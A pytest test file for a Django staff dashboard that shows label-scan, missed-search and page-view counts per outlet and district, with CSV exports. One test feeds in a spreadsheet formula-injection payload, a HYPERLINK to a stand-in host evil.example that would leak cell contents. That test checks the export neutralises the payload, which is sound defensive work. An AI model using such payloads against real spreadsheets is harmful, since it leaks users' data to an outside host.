"""What staff see of the counts on the summary (issue #16): label scans per day and
the most scanned products at the outlets of their agencies, the city-wide searches
without results and product page views by category and kecamatan, and the CSV
exports of them, scoped as the rest of the summary and never holding a formula."""

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from accounts.roles import CURATOR, VERIFIER
from outlets.insights import INSIGHT_DAYS
from outlets.models import Agency, LabelScan, Outlet
from products.models import Category, Kecamatan, Kelurahan, ProductCount, SearchMiss
from products.resources import FORMULA_STARTS
from tests.admin_helpers import make_staff
from tests.factories import make_business, make_product

pytestmark = pytest.mark.django_db

DAY = datetime.timedelta(days=1)
PHONE = (
    "Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36 Chrome/120 Mobile Safari/537.36"
)


def today():
    return timezone.localdate()


def english(name, query=""):
    with translation.override("en"):
        return reverse(name) + query


def dashboard_url():
    return english("staff_dashboard")


def export_url(data):
    return english("staff_counts_export", f"?data={data}")


def scans_of(response):
    """{outlet slug: OutletScans} as the summary shows them."""
    return {row.outlet.slug: row for row in response.context["outlet_scans"]}


def per_day(row):
    return {column.day: column.value for column in row.chart.columns}


def city_chart(response, chart_id):
    """A city-wide chart's {label: value}, in its order."""
    insight = next(
        i for i in response.context["city_insights"] if i.chart.id == chart_id
    )
    return {str(bar.label): bar.value for bar in insight.chart.bars}


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def scan(outlet, product, day, scans):
    return LabelScan.objects.create(
        outlet=outlet, product=product, day=day, scans=scans
    )


@pytest.fixture
def curator(client):
    """A signed-in curator of Disparpora, whose outlet is Iwak Banten."""
    user = make_staff("disparpora", group=CURATOR)
    client.force_login(user)
    return user


def test_a_real_label_scan_shows_on_the_curators_summary(client, curator, iwak_banten):
    """A resident scanning a shelf label at Iwak Banten counts one scan of today,
    which the curator sees in the outlet's total, its day and its top products."""
    product = make_product(name="Sate Bandeng")
    resident = Client()

    scanned = resident.get(
        f"/l/{iwak_banten.pk}/{product.pk}/",
        REMOTE_ADDR="203.0.113.9",
        HTTP_USER_AGENT=PHONE,
    )

    assert scanned.status_code == 302
    response = client.get(dashboard_url())
    row = scans_of(response)["iwak-banten"]
    assert row.total == 1
    assert per_day(row)[today()] == 1
    assert [(p.name, p.scans) for p in row.top_products] == [("Sate Bandeng", 1)]
    page = response.content.decode()
    assert "1 scan in the last 30 days" in page
    assert "Sate Bandeng" in page


def test_a_curator_sees_their_outlets_scans_not_another_agencys(
    client, curator, cipare, kasemen, iwak_banten
):
    """A Disparpora curator sees Iwak Banten's scans; the Dinas Koperasi outlets
    (Cipare, Kasemen), their products and their numbers are not on the page."""
    ours = make_product(name="Otak-otak Iwak")
    theirs = make_product(name="Emping Cipare Rahasia")
    scan(iwak_banten, ours, today(), 4)
    scan(cipare, theirs, today(), 97)
    scan(kasemen, theirs, today() - DAY, 55)

    response = client.get(dashboard_url())

    assert list(scans_of(response)) == ["iwak-banten"]
    assert scans_of(response)["iwak-banten"].total == 4
    page = response.content.decode()
    assert "Label scans at Iwak Banten" in page
    assert "Label scans at Gerai UMKM Cipare" not in page
    assert "Emping Cipare Rahasia" not in page
    assert ">97<" not in page
    assert ">55<" not in page


def test_scans_per_day_are_zero_filled_over_the_last_30_days(
    client, curator, iwak_banten
):
    """Thirty days, oldest first, today last: days without scans are zero, scans
    older than the window are left out, and the shown total and day cells match
    the rows."""
    first, second = make_product(), make_product()
    scan(iwak_banten, first, today(), 3)
    scan(iwak_banten, second, today(), 2)
    scan(iwak_banten, first, today() - 29 * DAY, 7)
    scan(iwak_banten, first, today() - 30 * DAY, 100)  # a day too old

    response = client.get(dashboard_url())

    row = scans_of(response)["iwak-banten"]
    days = per_day(row)
    assert list(days) == [today() - n * DAY for n in range(INSIGHT_DAYS - 1, -1, -1)]
    assert days[today()] == 5
    assert days[today() - 29 * DAY] == 7
    assert sum(days.values()) == row.total == 12
    assert list(days.values()).count(0) == 28
    page = response.content.decode()
    assert "12 scans in the last 30 days" in page
    chart = row.chart
    assert page.count(f'<rect class="day-column {chart.kind}"') == 2
    for day, value in [(today(), 5), (today() - 29 * DAY, 7), (today() - DAY, 0)]:
        cell = (
            f'<time datetime="{day.isoformat()}">{day.day} {day:%b}</time></th>\n'
            f'            <td class="number">{value}</td>'
        )
        assert cell in page


def test_the_top_five_products_by_scans_most_first(client, curator, iwak_banten):
    """Scans summed over the window's days; the most first, equals by name; the
    sixth product is left out."""
    counts = {
        "Abon": 4,
        "Bandeng": 9,
        "Cireng": 4,
        "Dodol": 1,
        "Emping": 6,
        "Gipang": 2,
    }
    for name, scans in counts.items():
        product = make_product(name=name)
        scan(iwak_banten, product, today(), scans - 1 if scans > 1 else scans)
        if scans > 1:
            scan(iwak_banten, product, today() - 3 * DAY, 1)

    response = client.get(dashboard_url())

    top = scans_of(response)["iwak-banten"].top_products
    assert [(p.name, p.scans) for p in top] == [
        ("Bandeng", 9),
        ("Emping", 6),
        ("Abon", 4),
        ("Cireng", 4),
        ("Gipang", 2),
    ]
    page = response.content.decode()
    assert "Dodol" not in page
    assert page.index("Bandeng") < page.index("Emping") < page.index("Gipang")


def test_an_outlet_without_scans_says_so(client, curator, iwak_banten):
    """No chart of thirty zeroes and no empty list: one sentence."""
    scan(iwak_banten, make_product(), today() - 40 * DAY, 8)

    response = client.get(dashboard_url())

    page = response.content.decode()
    assert scans_of(response)["iwak-banten"].total == 0
    assert "No scans in the last 30 days yet." in page
    assert "day-column" not in page
    assert "Most scanned products" not in page


def test_search_terms_without_results_are_summed_over_days_and_ordered(client, curator):
    """The ten terms searched most often without results over thirty days, each
    summed over its days, most first, equals alphabetically, linking to the
    search."""
    SearchMiss.objects.create(term="batik betawi", day=today(), searches=2)
    SearchMiss.objects.create(term="batik betawi", day=today() - 5 * DAY, searches=3)
    SearchMiss.objects.create(term="kopi luwak", day=today() - DAY, searches=4)
    SearchMiss.objects.create(term="kopi luwak", day=today() - 30 * DAY, searches=50)
    SearchMiss.objects.create(term="angklung", day=today(), searches=4)
    for number in range(10):
        SearchMiss.objects.create(term=f"langka {number:02}", day=today(), searches=1)

    response = client.get(dashboard_url())

    terms = city_chart(response, "missed-searches")
    assert list(terms.items())[:3] == [
        ("batik betawi", 5),
        ("angklung", 4),
        ("kopi luwak", 4),
    ]
    assert len(terms) == 10
    assert "langka 06" in terms
    assert "langka 07" not in terms
    page = response.content.decode()
    assert f'href="{reverse("products:list")}?q=batik+betawi">5</a>' in page


def test_product_page_views_by_category_and_kecamatan(client, curator):
    """Views of the last thirty days by the product's category and its business's
    kecamatan; every category and kecamatan listed, zero included."""
    kasemen = Kelurahan.objects.filter(kecamatan__slug="kasemen").first()
    craft = make_product(category=Category.objects.get(slug="kerajinan"))
    food_in_kasemen = make_product(business=make_business(kelurahan=kasemen))
    ProductCount.objects.create(product=craft, day=today(), views=6, whatsapp_taps=1)
    ProductCount.objects.create(product=craft, day=today() - 9 * DAY, views=4)
    ProductCount.objects.create(product=food_in_kasemen, day=today(), views=3)
    ProductCount.objects.create(
        product=food_in_kasemen, day=today() - 31 * DAY, views=900
    )

    response = client.get(dashboard_url())

    by_category = city_chart(response, "views-category")
    assert list(by_category) == [c.name for c in Category.objects.all()]
    assert by_category["Kerajinan"] == 10
    assert by_category["Makanan"] == 3
    assert sum(by_category.values()) == 13
    by_kecamatan = city_chart(response, "views-kecamatan")
    assert list(by_kecamatan) == [k.name for k in Kecamatan.objects.all()]
    assert by_kecamatan[kasemen.kecamatan.name] == 3
    assert by_kecamatan["Serang"] == 10  # the factories' kelurahan, Cipare
    assert sum(by_kecamatan.values()) == 13


def test_without_counts_the_city_charts_say_so(client, curator):
    """No chart of zeroes: a sentence for each."""
    response = client.get(dashboard_url())

    page = response.content.decode()
    assert "No search went without results in the last 30 days." in page
    assert page.count("No product page was viewed in the last 30 days.") == 2
    assert 'aria-labelledby="views-category-title"' not in page


def test_a_verifier_sees_the_city_charts_but_no_outlet_scans(client, iwak_banten):
    """Verifiers review the catalogue, not outlets: city-wide counts and their
    exports, no outlet's scans and no scan export."""
    scan(iwak_banten, make_product(name="Kue Satu"), today(), 3)
    ProductCount.objects.create(product=make_product(), day=today(), views=2)
    client.force_login(make_staff(group=VERIFIER))

    response = client.get(dashboard_url())

    assert response.context["outlet_scans"] is None
    assert city_chart(response, "views-category")["Makanan"] == 2
    page = response.content.decode()
    assert "Kue Satu" not in page
    assert export_url("pindaian") not in page
    assert f'href="{export_url("pencarian")}"' in page
    assert client.get(export_url("pindaian")).status_code == 403


def test_the_summary_links_to_the_exports_a_curator_may_download(client, curator):
    page = client.get(dashboard_url()).content.decode()

    for data in ["pindaian", "pencarian", "kategori", "kecamatan"]:
        assert f'href="{export_url(data)}"' in page


def test_the_scan_export_has_a_row_per_day_outlet_and_product_of_own_outlets(
    client, curator, cipare, iwak_banten
):
    """Only the curator's outlets: the Dinas Koperasi outlet's scans are not in the
    file; rows by day, then outlet and product, over thirty days."""
    bandeng = make_product(
        name="Bandeng Presto", business=make_business(name="UD Laut")
    )
    abon = make_product(name="Abon Ikan", business=make_business(name="UD Darat"))
    scan(iwak_banten, bandeng, today(), 3)
    scan(iwak_banten, abon, today(), 1)
    scan(iwak_banten, bandeng, today() - 2 * DAY, 2)
    scan(iwak_banten, bandeng, today() - 30 * DAY, 9)
    scan(cipare, bandeng, today(), 40)

    rows = csv_rows(client.get(export_url("pindaian")))

    assert rows == [
        ["Day", "Outlet", "Product", "Business (UMKM)", "Scans"],
        [
            (today() - 2 * DAY).isoformat(),
            "Iwak Banten",
            "Bandeng Presto",
            "UD Laut",
            "2",
        ],
        [today().isoformat(), "Iwak Banten", "Abon Ikan", "UD Darat", "1"],
        [today().isoformat(), "Iwak Banten", "Bandeng Presto", "UD Laut", "3"],
    ]


def test_a_superuser_exports_every_outlets_scans(admin_client, cipare, iwak_banten):
    product = make_product(name="Keripik")
    scan(iwak_banten, product, today(), 3)
    scan(cipare, product, today(), 40)

    rows = csv_rows(admin_client.get(export_url("pindaian")))

    assert [row[1:] for row in rows[1:]] == [
        ["Gerai UMKM Cipare", "Keripik", product.business.name, "40"],
        ["Iwak Banten", "Keripik", product.business.name, "3"],
    ]


def test_the_search_export_neutralises_formulas(client, curator):
    """A term that starts like a formula is text in the spreadsheet (an apostrophe
    in front, as every export of the project does)."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
    SearchMiss.objects.create(term=evil, day=today(), searches=2)
    SearchMiss.objects.create(term="-kue", day=today(), searches=1)
    SearchMiss.objects.create(term="gipang", day=today() - DAY, searches=5)

    rows = csv_rows(client.get(export_url("pencarian")))

    assert rows == [
        ["Day", "Search term", "Searches"],
        [(today() - DAY).isoformat(), "gipang", "5"],
        [today().isoformat(), "'" + evil, "2"],
        [today().isoformat(), "'-kue", "1"],
    ]
    assert not [v for row in rows for v in row if v.startswith(FORMULA_STARTS)]


def test_an_owners_formula_product_name_is_text_in_the_scan_export(
    client, curator, iwak_banten
):
    product = make_product(name="@SUM(A1)", business=make_business(name="+Usaha"))
    scan(iwak_banten, product, today(), 1)

    rows = csv_rows(client.get(export_url("pindaian")))

    assert rows[1][2:] == ["'@SUM(A1)", "'+Usaha", "1"]


def test_the_category_and_kecamatan_exports_count_views_and_taps_per_day(
    client, curator
):
    kasemen = Kelurahan.objects.filter(kecamatan__slug="kasemen").first()
    craft = make_product(category=Category.objects.get(slug="kerajinan"))
    food = make_product(business=make_business(kelurahan=kasemen))
    other_food = make_product()
    ProductCount.objects.create(product=craft, day=today(), views=6, whatsapp_taps=2)
    ProductCount.objects.create(product=food, day=today(), views=3, whatsapp_taps=1)
    ProductCount.objects.create(product=other_food, day=today(), views=1)
    ProductCount.objects.create(product=food, day=today() - DAY, whatsapp_taps=4)

    by_category = csv_rows(client.get(export_url("kategori")))
    by_kecamatan = csv_rows(client.get(export_url("kecamatan")))

    yesterday, day = (today() - DAY).isoformat(), today().isoformat()
    # Each day's categories in their listing order (Makanan comes first).
    assert by_category == [
        ["Day", "Category", "Page views", "WhatsApp taps"],
        [yesterday, "Makanan", "0", "4"],
        [day, "Makanan", "4", "1"],
        [day, "Kerajinan", "6", "2"],
    ]
    assert by_kecamatan == [
        ["Day", "Kecamatan", "Page views", "WhatsApp taps"],
        [yesterday, kasemen.kecamatan.name, "0", "4"],
        [day, kasemen.kecamatan.name, "3", "1"],
        [day, "Serang", "7", "2"],
    ]


def test_an_unknown_export_is_not_found(client, curator):
    assert client.get(export_url("semua")).status_code == 404
    assert client.get(english("staff_counts_export")).status_code == 404


@pytest.mark.parametrize("user", [None, "owner"])
def test_anyone_but_staff_is_sent_to_the_admin_login(client, user):
    if user:
        client.force_login(make_business().owner)

    for url in [dashboard_url(), export_url("pindaian"), export_url("pencarian")]:
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(english("admin:login"))


def test_queries_do_not_grow_with_outlets_products_and_days(
    client, curator, iwak_banten, django_assert_max_num_queries
):
    """The summary and the scan export cost the same queries for one scan as for
    many outlets, products, days, terms and views."""
    scan(iwak_banten, make_product(), today(), 1)
    client.get(dashboard_url())  # warm the per-process caches
    with django_assert_max_num_queries(100) as few:
        client.get(dashboard_url())
    with django_assert_max_num_queries(100) as few_csv:
        client.get(export_url("pindaian"))

    agency = Agency.objects.get(slug="disparpora")
    products = [make_product(name=f"Produk Banyak {n}") for n in range(8)]
    outlets = [iwak_banten] + [
        Outlet.objects.create(
            name=f"Stand {number}",
            slug=f"stand-{number}",
            agency=agency,
            kind=Outlet.Kind.EVENT_STAND,
            address="Alun-alun Kota Serang",
        )
        for number in range(6)
    ]
    LabelScan.objects.bulk_create(
        LabelScan(outlet=outlet, product=product, day=today() - n * DAY, scans=n + 1)
        for outlet in outlets
        for product in products
        for n in range(0, 30, 2)
    )
    ProductCount.objects.bulk_create(
        ProductCount(product=product, day=today() - n * DAY, views=n)
        for product in products
        for n in range(30)
    )
    SearchMiss.objects.bulk_create(
        SearchMiss(term=f"cari {t}", day=today() - n * DAY, searches=1)
        for t in range(15)
        for n in range(10)
    )

    with django_assert_max_num_queries(len(few)) as many:
        response = client.get(dashboard_url())
    with django_assert_max_num_queries(len(few_csv)):
        exported = client.get(export_url("pindaian"))

    assert len(many) <= 25
    assert len(scans_of(response)) == 7
    assert all(len(row.top_products) == 5 for row in scans_of(response).values())
    assert len(csv_rows(exported)) == 1 + 1 + 7 * 8 * 15  # header, first scan
